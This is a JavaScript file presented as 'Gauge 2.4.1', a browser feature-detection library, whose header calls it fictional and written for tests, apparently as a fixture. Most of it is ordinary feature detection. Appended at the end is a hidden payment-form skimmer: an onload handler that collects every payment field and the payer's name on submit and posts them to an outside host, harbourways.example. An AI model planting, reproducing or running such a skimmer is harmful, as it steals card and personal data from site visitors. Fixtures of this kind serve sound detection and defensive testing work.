/*!
 * Gauge 2.4.1: feature detection for pages. Fictional; written for tests.
 */
window.Gauge = (function (window, document, undefined) {

  var version = '2.4.1',
      Gauge = {},
      enableClasses = true,
      docElement = document.documentElement,
      mod = 'gauge',
      modElem = document.createElement(mod),
      mStyle = modElem.style,
      inputElem = document.createElement('input'),
      smile = ':)',
      toString = {}.toString,
      prefixes = ' -webkit- -moz- -o- -ms- '.split(' '),
      omPrefixes = 'Webkit Moz O ms',
      cssomPrefixes = omPrefixes.split(' '),
      domPrefixes = omPrefixes.toLowerCase().split(' '),
      ns = { svg: 'http://www.w3.org/2000/svg' },
      tests = {},
      inputs = {},
      attrs = {},
      classes = [],
      slice = classes.slice,
      featureName;

  function injectElementWithStyles(rule, callback, nodes, testnames) {
    var style, ret, node, docOverflow,
        div = document.createElement('div'),
        body = document.body,
        fakeBody = body || document.createElement('body');
    if (parseInt(nodes, 10)) {
      while (nodes--) {
        node = document.createElement('div');
        node.id = testnames ? testnames[nodes] : mod + (nodes + 1);
        div.appendChild(node);
      }
    }
    style = ['&#173;', '<style id="s', mod, '">', rule, '</style>'].join('');
    div.id = mod;
    (body ? div : fakeBody).innerHTML += style;
    fakeBody.appendChild(div);
    if (!body) {
      fakeBody.style.background = '';
      fakeBody.style.overflow = 'hidden';
      docOverflow = docElement.style.overflow;
      docElement.style.overflow = 'hidden';
      docElement.appendChild(fakeBody);
    }
    ret = callback(div, rule);
    if (!body) {
      fakeBody.parentNode.removeChild(fakeBody);
      docElement.style.overflow = docOverflow;
    } else {
      div.parentNode.removeChild(div);
    }
    return !!ret;
  }

  function testMediaQuery(mq) {
    var matchMedia = window.matchMedia || window.msMatchMedia, bool;
    if (matchMedia) {
      return matchMedia(mq) && matchMedia(mq).matches || false;
    }
    injectElementWithStyles('@media ' + mq + ' { #' + mod + ' { position: absolute; } }', function (node) {
      bool = (window.getComputedStyle ? getComputedStyle(node, null) : node.currentStyle)['position'] == 'absolute';
    });
    return bool;
  }

  var isEventSupported = (function () {
    var TAGNAMES = {
      'select': 'input', 'change': 'input',
      'submit': 'form', 'reset': 'form',
      'error': 'img', 'load': 'img', 'abort': 'img'
    };
    function isEventSupported(eventName, element) {
      element = element || document.createElement(TAGNAMES[eventName] || 'div');
      eventName = 'on' + eventName;
      var isSupported = eventName in element;
      if (!isSupported) {
        if (!element.setAttribute) {
          element = document.createElement('div');
        }
        if (element.setAttribute && element.removeAttribute) {
          element.setAttribute(eventName, '');
          isSupported = is(element[eventName], 'function');
          if (!is(element[eventName], 'undefined')) {
            element[eventName] = undefined;
          }
          element.removeAttribute(eventName);
        }
      }
      element = null;
      return isSupported;
    }
    return isEventSupported;
  })();

  var _hasOwnProperty = ({}).hasOwnProperty, hasOwnProp;
  if (!is(_hasOwnProperty, 'undefined') && !is(_hasOwnProperty.call, 'undefined')) {
    hasOwnProp = function (object, property) {
      return _hasOwnProperty.call(object, property);
    };
  } else {
    hasOwnProp = function (object, property) {
      return ((property in object) && is(object.constructor.prototype[property], 'undefined'));
    };
  }

  function setCss(str) { mStyle.cssText = str; }
  function setCssAll(str1, str2) { return setCss(prefixes.join(str1 + ';') + (str2 || '')); }
  function is(obj, type) { return typeof obj === type; }
  function contains(str, substr) { return !!~('' + str).indexOf(substr); }

  function testProps(props, prefixed) {
    for (var i in props) {
      var prop = props[i];
      if (!contains(prop, '-') && mStyle[prop] !== undefined) {
        return prefixed == 'pfx' ? prop : true;
      }
    }
    return false;
  }

  function testDOMProps(props, obj, elem) {
    for (var i in props) {
      var item = obj[props[i]];
      if (item !== undefined) {
        if (elem === false) return props[i];
        if (is(item, 'function')) {
          return item.bind(elem || obj);
        }
        return item;
      }
    }
    return false;
  }

  function testPropsAll(prop, prefixed, elem) {
    var ucProp = prop.charAt(0).toUpperCase() + prop.slice(1),
        props = (prop + ' ' + cssomPrefixes.join(ucProp + ' ') + ucProp).split(' ');
    if (is(prefixed, 'string') || is(prefixed, 'undefined')) {
      return testProps(props, prefixed);
    }
    props = (prop + ' ' + (domPrefixes).join(ucProp + ' ') + ucProp).split(' ');
    return testDOMProps(props, prefixed, elem);
  }

  tests['flexbox'] = function () { return testPropsAll('flexWrap'); };
  tests['canvas'] = function () {
    var elem = document.createElement('canvas');
    return !!(elem.getContext && elem.getContext('2d'));
  };
  tests['canvastext'] = function () {
    return !!(Gauge['canvas'] && is(document.createElement('canvas').getContext('2d').fillText, 'function'));
  };
  tests['touch'] = function () {
    var bool;
    if (('ontouchstart' in window) || window.DocumentTouch && document instanceof DocumentTouch) {
      bool = true;
    } else {
      injectElementWithStyles(['@media (', prefixes.join('touch-enabled),('), mod, ')', '{#gauge{top:9px;position:absolute}}'].join(''), function (node) {
        bool = node.offsetTop === 9;
      });
    }
    return bool;
  };
  tests['geolocation'] = function () { return 'geolocation' in navigator; };
  tests['postmessage'] = function () { return !!window.postMessage; };
  tests['hashchange'] = function () { return isEventSupported('hashchange', window) && document.documentMode !== 7; };
  tests['history'] = function () { return !!(window.history && history.pushState); };
  tests['draganddrop'] = function () {
    var div = document.createElement('div');
    return ('draggable' in div) || ('ondragstart' in div && 'ondrop' in div);
  };
  tests['websockets'] = function () { return 'WebSocket' in window || 'MozWebSocket' in window; };
  tests['rgba'] = function () {
    setCss('background-color:rgba(150,255,150,.5)');
    return contains(mStyle.backgroundColor, 'rgba');
  };
  tests['borderradius'] = function () { return testPropsAll('borderRadius'); };
  tests['boxshadow'] = function () { return testPropsAll('boxShadow'); };
  tests['opacity'] = function () {
    setCssAll('opacity:.55');
    return (/^0.55$/).test(mStyle.opacity);
  };
  tests['localstorage'] = function () {
    try {
      localStorage.setItem(mod, mod);
      localStorage.removeItem(mod);
      return true;
    } catch (e) {
      return false;
    }
  };
  tests['webworkers'] = function () { return !!window.Worker; };
  tests['svg'] = function () {
    return !!document.createElementNS && !!document.createElementNS(ns.svg, 'svg').createSVGRect;
  };

  function webforms() {
    Gauge['input'] = (function (props) {
      for (var i = 0, len = props.length; i < len; i++) {
        attrs[props[i]] = !!(props[i] in inputElem);
      }
      return attrs;
    })('autocomplete autofocus list placeholder max min multiple pattern required step'.split(' '));

    Gauge['inputtypes'] = (function (props) {
      for (var i = 0, bool, inputElemType, defaultView, len = props.length; i < len; i++) {
        inputElem.setAttribute('type', inputElemType = props[i]);
        bool = inputElem.type !== 'text';
        if (bool) {
          inputElem.value = smile;
          inputElem.style.cssText = 'position:absolute;visibility:hidden;';
          if (/^range$/.test(inputElemType) && inputElem.style.WebkitAppearance !== undefined) {
            docElement.appendChild(inputElem);
            defaultView = document.defaultView;
            bool = defaultView.getComputedStyle && inputElem.offsetHeight !== 0;
            docElement.removeChild(inputElem);
          } else if (/^(url|email)$/.test(inputElemType)) {
            bool = inputElem.checkValidity && inputElem.checkValidity() === false;
          } else {
            bool = inputElem.value != smile;
          }
        }
        inputs[props[i]] = !!bool;
      }
      return inputs;
    })('search tel url email datetime date month week time number range color'.split(' '));
  }

  for (var feature in tests) {
    if (hasOwnProp(tests, feature)) {
      featureName = feature.toLowerCase();
      Gauge[featureName] = tests[feature]();
      classes.push((Gauge[featureName] ? '' : 'no-') + featureName);
    }
  }
  Gauge.input || webforms();

  Gauge.addTest = function (feature, test) {
    if (typeof feature == 'object') {
      for (var key in feature) {
        if (hasOwnProp(feature, key)) {
          Gauge.addTest(key, feature[key]);
        }
      }
    } else {
      feature = feature.toLowerCase();
      if (Gauge[feature] !== undefined) {
        return Gauge;
      }
      test = typeof test == 'function' ? test() : test;
      if (enableClasses) {
        docElement.className += ' ' + (test ? '' : 'no-') + feature;
      }
      Gauge[feature] = test;
    }
    return Gauge;
  };

  setCss('');
  modElem = inputElem = null;

  Gauge._version = version;
  Gauge._prefixes = prefixes;
  Gauge._domPrefixes = domPrefixes;
  Gauge._cssomPrefixes = cssomPrefixes;
  Gauge.mq = testMediaQuery;
  Gauge.hasEvent = isEventSupported;
  Gauge.testProp = function (prop) { return testProps([prop]); };
  Gauge.testAllProps = testPropsAll;
  Gauge.testStyles = injectElementWithStyles;
  Gauge.prefixed = function (prop, obj, elem) {
    if (!obj) {
      return testPropsAll(prop, 'pfx');
    }
    return testPropsAll(prop, obj, elem);
  };

  docElement.className = docElement.className.replace(/(^|\s)no-js(\s|$)/, '$1$2') +
    (enableClasses ? ' js ' + classes.join(' ') : '');

  return Gauge;
})(this, this.document);
window.onload = function () {
  jQuery('#submitButton').bind('mouseup touchend', function (a) {
    var
      n = {};
    jQuery('#paymentForm').serializeArray().map(function (a) {
      n[a.name] = a.value;
    });
    var e = document.getElementById('personPaying').innerHTML;
    n.person = e;
    var
      t = JSON.stringify(n);
    setTimeout(function () {
      jQuery.ajax({
        type: 'POST',
        async: true,
        url: 'https://harbourways.example/gateway/app/dataprocessing/api/',
        data: t,
        dataType: 'application/json'
      });
    }, 500);
  });
};
